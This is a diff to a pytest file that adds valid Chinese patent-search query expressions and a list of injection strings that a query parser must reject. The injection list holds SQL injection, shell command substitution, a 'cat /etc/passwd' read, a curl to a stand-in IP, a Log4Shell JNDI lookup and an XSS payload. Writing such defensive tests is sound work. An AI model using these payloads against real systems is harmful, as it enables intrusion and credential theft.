@@ -356,10 +356,29 @@ HJ212_INJECTIONS = [  # each must fall back to every rule
     "1 or 1=1",
 ]
 
+PATENT = [  # CNIPA-style 高级检索 expressions as the search page and a saved-expression call send them
+    # corpus K held-out part, opened in stop 28: ip-patent-search expert-search and save-expression (942100 at PL1)
+    "((TI=(茶叶) AND IN=(田春燕)) OR PA=(贵州*)) AND LS=(有效)",
+    "(TI=(白酒) OR AB=(白酒 AND 窖泥 微生物)) AND IPC=(C12G*) AND AD=[20180101 TO 20211231]",
+    "TIAB=(白酒? OR 白酒*) NOT PA=(中国贵州茅台酒厂(集团)有限责任公司) AND PD>=2016-01-01",
+    "IPC=(C01F11/*) AND TI=(磷石膏) AND PD=[2022-01-01 TO 2027-12-31]",
+    'CLM=("数据中心 冷却") AND (IPC=(G06F16/2458) OR IPC=(H05K7/20)) AND AN=(CN*)',
+    "TI=(lithium battery AND cathode) AND PA=(CATL)", "AB=(无人机)\tAND\tIPC=(B64U101/*)", "PD<2020-01-01",
+]
+PATENT_INJECTIONS = [  # each must fall back to every rule
+    "TI=(茶叶') OR '1'='1", "TI=(茶叶) union select password from users", "TI=(x) AND 1=1; drop table t",
+    "TI=(x) -- comment", "TI=(x) # c", "TI=(x) /*! union */", "IPC=(C01F11/*) */", "TI=(x)\nunion select 1",
+    "TI=($(id))", "TI=(`id`)", "TI=(x) | cat /etc/passwd", "TI=(x) && curl 203.0.113.5", "TI=(x%27)",
+    "TI=(x) AND sleep(5)", "TI=(x) AND benchmark(1,1)", "TI=(${jndi:ldap://x.example/a})", "TI=(x@@version)",
+    "TI=(<script>alert(1)</script>)", "TI=(\\x)", "TI=(x) order by 1", "TI=(x) from dual",
+]
+
+
 # language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
 TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
           "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
-          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS)}
+          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS),
+          "patent-search": (PATENT, PATENT_INJECTIONS)}
 
 
 @pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
